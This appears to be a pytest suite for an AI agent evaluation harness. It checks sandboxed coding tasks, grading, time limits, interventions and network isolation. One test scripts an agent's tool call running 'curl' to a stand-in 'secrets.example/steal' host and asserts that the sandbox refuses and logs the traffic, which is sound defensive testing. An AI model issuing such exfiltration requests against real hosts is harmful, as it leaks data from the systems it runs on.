"""A coding task, from its folder to the verdict: a real box, a real patch, a real clean room."""

import json
import shutil
import socket
from collections.abc import Callable
from pathlib import Path

import pytest

import bakeoff
from bakeoff.core.candidate import AgentSpec
from bakeoff.core.errors import ProviderError, UsageError
from bakeoff.core.outcome import Completion, Request, Usage
from bakeoff.core.record import Attempt, Status
from bakeoff.core.task import ToolCall
from bakeoff.reports.artifacts import artifacts_folder
from bakeoff.sandboxes.egress import uplink
from support.coding_tasks import FIX, write_fix_add
from support.parts import require, require_embedded_model

Plays = Callable[[Request], Completion]


@pytest.fixture(autouse=True)
def _needs_a_sandbox() -> None:
    require("bubblewrap", shutil.which("bwrap"), "apt-get install bubblewrap")


def _calls(command: str) -> Completion:
    call = ToolCall(id="c1", name="run", arguments=json.dumps({"command": command}))
    return Completion(
        text="", tool_calls=(call,), usage=Usage(input_tokens=10, output_tokens=5), model="played"
    )


def _says(text: str) -> Completion:
    return Completion(
        text=text, usage=Usage(input_tokens=10, output_tokens=5), stop_reason="stop", model="played"
    )


def _plays(*replies: Completion) -> Plays:
    """Return a model that gives *replies* one after another, by how far the talk has come."""

    def played(request: Request) -> Completion:
        turn = sum(1 for message in request.messages if message.role == "assistant")
        return replies[min(turn, len(replies) - 1)]

    return played


def _only(run: bakeoff.Run) -> Attempt:
    (record,) = run.trials()
    return record.attempt


def test_the_shell_agent_repairs_a_file_and_the_clean_room_says_so(tmp_path: Path) -> None:
    task = write_fix_add(tmp_path)
    model = _plays(_calls("cat calc.py"), _calls(FIX), _says("Done."))
    run = bakeoff.run(task, models=[model], sandbox="bubblewrap", output=tmp_path / "runs")
    attempt = _only(run)
    assert (attempt.status, attempt.score, attempt.passed) == (Status.COMPLETED, 1.0, True)
    assert attempt.outcome is not None
    assert attempt.outcome.change is not None
    assert "+    return a + b" in attempt.outcome.change.patch
    assert (attempt.outcome.change.files, attempt.outcome.change.added) == (1, 1)
    assert attempt.spent.requests == 3
    assert set(attempt.phases) == {"set-up", "agent", "grading"}
    seen = [m.content for m in attempt.outcome.transcript if m.role == "tool"]
    assert seen[0].startswith("exit code 0\ndef add")
    folder = artifacts_folder(run.folder, next(iter(run.trials())).name, 1)
    assert {"diff.patch", "transcript.jsonl", "attempt.json"} <= {f.name for f in folder.iterdir()}
    figures = json.loads((folder / "attempt.json").read_text())
    assert (figures["files_changed"], figures["prompts"]) == (1, 3)


def test_a_model_without_tools_writes_its_commands_in_a_block(tmp_path: Path) -> None:
    task = write_fix_add(tmp_path)

    def model(request: Request) -> Completion:
        if request.tools:
            raise ProviderError("this model does not support tools")
        return _plays(_says(f"Let me.\n```sh\n{FIX}\n```\n"), _says("Done."))(request)

    run = bakeoff.run(task, models=[model], sandbox="bubblewrap", output=tmp_path / "runs")
    assert _only(run).score == 1.0


def test_doing_nothing_scores_zero_and_is_not_a_fault(tmp_path: Path) -> None:
    run = bakeoff.run(write_fix_add(tmp_path), models=[_plays(_says("I am done."))],
                      sandbox="bubblewrap", output=tmp_path / "runs")  # fmt: skip
    attempt = _only(run)
    assert (attempt.status, attempt.score, attempt.fault) == (Status.COMPLETED, 0.0, None)


def test_a_hung_command_ends_with_the_time_limit_and_what_was_done_before_counts(
    tmp_path: Path,
) -> None:
    task = write_fix_add(tmp_path)
    model = _plays(_calls(f"{FIX}; trap '' TERM; sleep 1000"), _says("never said"))
    run = bakeoff.run(task, models=[model], sandbox="bubblewrap", output=tmp_path / "runs",
                      overrides={"limits.time_s": "2"})  # fmt: skip
    attempt = _only(run)
    assert (attempt.status, attempt.score) == (Status.LIMITED, 1.0)
    assert attempt.phases["agent"] < 30


def test_stored_work_is_graded_again_without_its_agent(tmp_path: Path) -> None:
    task = write_fix_add(tmp_path)
    asked = []

    def model(request: Request) -> Completion:
        asked.append(request)
        return _plays(_calls(FIX), _says("Done."))(request)

    output = tmp_path / "runs"
    run = bakeoff.run(task, models=[model], sandbox="bubblewrap", output=output)
    before = len(asked)
    again = bakeoff.rescore(run)
    assert _only(again).score == 1.0
    assert len(asked) == before
    assert _only(again).phases["agent"] == _only(run).phases["agent"]


def test_the_instructor_steps_in_where_the_check_fails_and_is_counted(tmp_path: Path) -> None:
    check = "python3 -c 'import calc; assert calc.add(2, 3) == 5'"
    write_fix_add(tmp_path, settings=f'check = "{check}"\n')

    def model(request: Request) -> Completion:
        if request.messages[-1].content == "Look at the sign.":
            return _calls(FIX)
        return _says("I think it is fine.")

    config = tmp_path / "run.toml"
    config.write_text(
        'suites = ["fix-add"]\nagents = ["shell"]\n[limits]\ninterventions = 2\n'
        '[roles]\ninstructor = "roles_here:instructor"\n'
    )
    (tmp_path / "roles_here.py").write_text(
        "from bakeoff.core.outcome import Completion\n"
        "def instructor(request):\n"
        "    assert 'fails' in request.messages[-1].content\n"
        "    return Completion(text='Look at the sign.')\n"
    )
    run = bakeoff.run(config, models=[model], sandbox="bubblewrap", output=tmp_path / "runs")
    attempt = _only(run)
    assert attempt.score == 1.0
    assert attempt.outcome is not None
    assert attempt.outcome.interventions == 1
    assert attempt.roles["instructor"].requests == 1


def test_interventions_without_an_instructor_are_refused(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match=r"roles\.instructor"):
        bakeoff.run(write_fix_add(tmp_path), models=[_plays(_says("x"))], sandbox="bubblewrap",
                    output=tmp_path / "runs", overrides={"limits.interventions": "1"})  # fmt: skip


def test_without_an_isolating_sandbox_nothing_runs_unless_local_is_asked_for(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    task = write_fix_add(tmp_path)
    tools = tmp_path / "bin"
    tools.mkdir()
    for name in ("git", "sh", "sed", "python3", "cat"):
        (tools / name).symlink_to(shutil.which(name) or name)
    monkeypatch.setenv("PATH", str(tools))
    monkeypatch.delenv("SANDBOX_BACKEND", raising=False)
    with pytest.raises(UsageError, match="--sandbox local") as refused:
        bakeoff.run(task, models=[_plays(_calls(FIX), _says("Done."))], output=tmp_path / "runs")
    assert "install" in str(refused.value)
    assert not (tmp_path / "runs").exists()


def test_the_local_sandbox_works_and_says_that_it_does_not_isolate(tmp_path: Path) -> None:
    said = []
    run = bakeoff.run(write_fix_add(tmp_path), models=[_plays(_calls(FIX), _says("Done."))],
                      sandbox="local", output=tmp_path / "runs",
                      listener=lambda event: said.append(str(event)))  # fmt: skip
    assert _only(run).score == 1.0
    assert any("does not isolate" in line for line in said)


def test_the_shell_agent_completes_its_loop_with_a_real_model(tmp_path: Path) -> None:
    require_embedded_model()
    run = bakeoff.run(write_fix_add(tmp_path), models=["embedded"], sandbox="bubblewrap",
                      agents=[AgentSpec(name="shell", settings={"steps": 3})],
                      output=tmp_path / "runs", overrides={"parameters.max_tokens": "64"})  # fmt: skip
    attempt = _only(run)
    assert attempt.status is Status.COMPLETED, attempt.fault
    assert attempt.score is not None  # whether it solves the task is the model's affair
    assert attempt.spent.requests >= 1


def test_what_an_agent_was_refused_is_in_its_log_and_in_the_notes_of_the_trial(
    tmp_path: Path,
) -> None:
    task = write_fix_add(tmp_path, settings='[box]\nnetwork = ["pypi.org"]\n')
    ask = "curl -s http://secrets.example/steal?x=1 http://127.0.0.2/"
    run = bakeoff.run(task, models=[_plays(_calls(ask), _calls(FIX), _says("Done."))],
                      sandbox="bubblewrap", output=tmp_path / "runs")  # fmt: skip
    attempt = _only(run)
    assert attempt.passed
    assert attempt.outcome is not None
    refused = attempt.outcome.notes["refused_traffic"]
    assert [line.split()[0] for line in refused] == ["secrets.example:80", "127.0.0.2:80"]
    assert "refused traffic: secrets.example:80 is not among" in str(attempt.outcome.log)


def test_a_task_with_a_network_has_one_of_its_own(tmp_path: Path) -> None:
    require("slirp4netns", uplink.unavailable_reason() is None, uplink.unavailable_reason() or "")
    task = write_fix_add(tmp_path, settings="[box]\nnetwork = true\n")
    look = _calls("cat /etc/resolv.conf; cut -s -d: -f1 /proc/net/dev")
    run = bakeoff.run(task, models=[_plays(look, _calls(FIX), _says("Done."))],
                      sandbox="bubblewrap", output=tmp_path / "runs")  # fmt: skip
    attempt = _only(run)
    assert attempt.passed
    assert attempt.outcome is not None
    seen = next(m.content for m in attempt.outcome.transcript if m.role == "tool").split()
    assert {"nameserver", uplink.NAMESERVER, "tap0", "lo"} <= set(seen)
    assert "eth0" not in seen


def test_a_network_that_the_sandbox_cannot_give_is_refused_before_the_first_request(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tools = tmp_path / "bin"
    tools.mkdir()
    for name in ("git", "sh", "bwrap"):
        (tools / name).symlink_to(shutil.which(name) or name)
    monkeypatch.setenv("PATH", str(tools))
    task = write_fix_add(tmp_path, settings="[box]\nnetwork = true\n")
    asked: list[Request] = []

    def model(request: Request) -> Completion:
        asked.append(request)
        return _says("x")

    with pytest.raises(UsageError, match="slirp4netns"):
        bakeoff.run(task, models=[model], sandbox="bubblewrap", output=tmp_path / "runs")
    assert not asked
    assert not (tmp_path / "runs").exists()


def test_the_host_s_network_is_the_operator_s_word_and_stands_in_the_manifest(
    tmp_path: Path,
) -> None:
    write_fix_add(tmp_path, settings="[box]\nnetwork = true\n")
    file = tmp_path / "run.toml"
    file.write_text(
        'suites = ["fix-add"]\n[sandbox]\nname = "bubblewrap"\nsettings = { network = "host" }\n'
    )
    with socket.create_server(("127.0.0.1", 0)) as server:
        ask = f"curl -s -m 1 http://127.0.0.1:{server.getsockname()[1]}/"
        run = bakeoff.run(file, models=[_plays(_calls(ask), _calls(FIX), _says("Done."))],
                          output=tmp_path / "runs")  # fmt: skip
        server.settimeout(0)
        server.accept()[0].close()
    assert _only(run).passed
    manifest = json.loads((run.folder / "manifest.json").read_text())
    assert manifest["sandbox"] == {"name": "bubblewrap", "settings": {"network": "host"}}
